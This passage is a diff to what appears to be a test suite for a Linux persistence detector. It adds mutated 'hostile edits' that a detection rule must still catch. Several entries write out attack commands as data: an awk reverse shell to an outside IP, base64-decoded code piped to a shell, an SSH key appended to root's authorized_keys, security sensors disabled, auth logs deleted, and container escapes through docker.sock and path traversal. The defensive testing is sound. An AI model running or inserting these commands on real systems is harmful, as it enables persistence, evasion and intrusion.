@@ -56,6 +56,15 @@ function unmark(event: Event, line: (marks: string) => string): Event {
   return event.path === undefined ? moved : { ...moved, path: '/etc/systemd/system/x.service' };
 }
 
+function isInLayer({ path }: Event): boolean {
+  return path !== undefined && /\/(?:merged|diff|fs)\//.test(path);
+}
+
+/** The unit of an image moved to where it is none of the image's. */
+function leaveLayer(path: string): HostileEdit {
+  return (event) => (isInLayer(event) ? { ...event, path } : undefined);
+}
+
 /** What an attacker may do with a tool's disguise: each of these must take the discount away. */
 export const hostileEdits: Readonly<Record<string, HostileEdit>> = {
   'account of a web server': (event) => ({ ...event, account: 'www-data' }),
@@ -88,6 +97,47 @@ export const hostileEdits: Readonly<Record<string, HostileEdit>> = {
   "the parent's path below /tmp": moveParent('/tmp'),
   "the parent's path below /dev/shm": moveParent('/dev/shm'),
   "the parent's path below a web root": moveParent('/var/www/html'),
+  'a unit linked by a path with doubled slashes': act('systemctl link //tmp//x.service'),
+  'a unit enabled by the root of a process': act('systemctl enable --now /proc/self/root/tmp/x.service'),
+  'a unit linked from a web root': act('systemctl link /var/www/html/x.service'),
+  'a unit linked from a hidden directory': act('systemctl link /usr/lib/.x/x.service'),
+  "a unit of the host's, out of a container": act('systemctl --root=/host enable x.service'),
+  'a sensor stopped': act('systemctl disable --now auditd.service mdatp.service --force enable'),
+  'a path out of the layer by way of dots': leaveLayer(
+    '/var/lib/docker/overlay2/x/merged/../../../../../../etc/systemd/system/x.service',
+  ),
+  'a path out of the layer by the root of a process': leaveLayer('/proc/1/root/etc/systemd/system/x.service'),
+  "a path that is the host's": leaveLayer('//etc//systemd/system/x.service'),
+  'a layer in /tmp': leaveLayer('/tmp/docker/overlay2/x/merged/etc/systemd/system/x.service'),
+  'a wildcard for a program in shared memory': append('; /dev/s?m/x'),
+  'separators out of a variable': append('; systemctl$IFS$9enable$IFS$9x'),
+  'code out of a variable': append('; eval "$X"'),
+  'decoded code in a long form': append('; base64 --decode /opt/x | bash'),
+  'decoded code by openssl': append('; openssl enc -base64 -d -in /opt/x | sh'),
+  'a shell by way of awk': append('; awk BEGIN{s="/inet/tcp/0/198.51.100.7/443"}'),
+  'a key added': append('; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'),
+  "a program with the owner's rights": append('; chmod u+s /usr/bin/x'),
+  'logs removed': append('; rm -f /var/log/auth.log'),
+  'out of the container by its socket': append('; curl --unix-socket /var/run/docker.sock http://x/v1'),
+  'below cron, from /tmp': (event) => ({
+    ...inParent(event, (line) => `/bin/sh /tmp/job.sh ${line}`),
+    parent: 'sh',
+    grandparent: 'cron',
+  }),
+  'the account of a web server, in capitals': (event) => ({ ...event, account: 'WWW-DATA' }),
+  'the account of a web server of a domain': (event) => ({ ...event, account: 'CORP\\tomcat' }),
+  'the grandparent is a shell of a web server': (event) => ({ ...event, grandparent: 'apache2' }),
+  // What a step inside of an image runs is the image's.
+  'the parent runs its code from the command line': (event) =>
+    isInLayer(event)
+      ? undefined
+      : inParent(
+          { ...event, parent: 'python3', grandparent: 'bash' },
+          (line) => `python3 -c exec(x) ${line}`,
+        ),
+  "the parent's path by the root of a process": moveParent('/proc/self/root/tmp'),
+  "the parent's path with doubled slashes below /tmp": moveParent('//tmp/'),
+  "the parent's path below a hidden directory": moveParent('/usr/lib/.x'),
   "the parent's path by way of dots": (event) => {
     const path = pathOf(event);
     return path.startsWith('/')
